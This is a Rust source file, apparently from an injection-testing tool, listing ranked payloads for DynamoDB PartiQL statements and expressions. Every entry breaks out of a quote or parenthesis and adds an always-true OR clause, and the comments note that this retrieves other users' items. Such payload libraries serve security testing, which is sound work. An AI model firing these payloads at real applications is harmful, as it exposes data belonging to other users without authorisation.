//! Payloads for the two query languages of DynamoDB: PartiQL statements and expressions.
//!
//! In an expression values are bound apart (`:v`), so only names can be forged. That `OR` binds
//! weaker than `AND` is what makes these payloads find the items of others (AWS, "Comparison
//! operator and function reference": precedence).

use super::{Effect, Payload, PayloadClass};

const fn statement(id: &'static str, template: &'static str, why: &'static str) -> Payload {
    Payload::new(PayloadClass::PartiQl, id, template, Effect::Query, why)
}

const fn expression(id: &'static str, template: &'static str, why: &'static str) -> Payload {
    Payload::new(PayloadClass::DynamoDbExpression, id, template, Effect::Query, why)
}

/// PartiQL, best first.
pub(super) const STATEMENTS: &[Payload] = &[
    statement(
        "partiql-or",
        "a' OR '{C}'='{C}",
        "leaves the quotes of a literal, which must not be empty in a key, and finds every item",
    ),
    statement(
        "partiql-or-attribute",
        "a' OR {C} IS MISSING OR {C}='a",
        "no item has an attribute of this name, so every item is found",
    ),
    statement("partiql-parenthesis", "a') OR ('{C}'='{C}", "leaves a parenthesis or a call of a function"),
    statement("partiql-no-space", "a'OR'{C}'='{C}", "words need no blank beside a quote"),
];

/// Expressions, best first.
pub(super) const EXPRESSIONS: &[Payload] = &[
    expression(
        "dynamodb-or",
        "attribute_exists({C}) OR attribute_not_exists({C}) OR {C}",
        "a condition of its own between what stands before and after",
    ),
    expression(
        "dynamodb-function",
        "{C},pk) OR attribute_not_exists({C}) OR contains({C}",
        "leaves the parentheses of a function of two operands",
    ),
    expression(
        "dynamodb-parenthesis",
        "{C}) OR attribute_not_exists({C}) OR attribute_exists({C}",
        "leaves the parenthesis of a function of one operand",
    ),
    expression(
        "dynamodb-comparison-parenthesis",
        "attribute_exists({C})) OR attribute_not_exists({C}) OR ({C}",
        "leaves the parenthesis around a comparison",
    ),
    expression(
        "dynamodb-two-parentheses",
        "{C})) OR (attribute_not_exists({C}) OR attribute_exists({C}",
        "leaves the parenthesis around a condition as well",
    ),
    expression("dynamodb-projection", "{C},pk", "one more attribute in a list of names"),
];
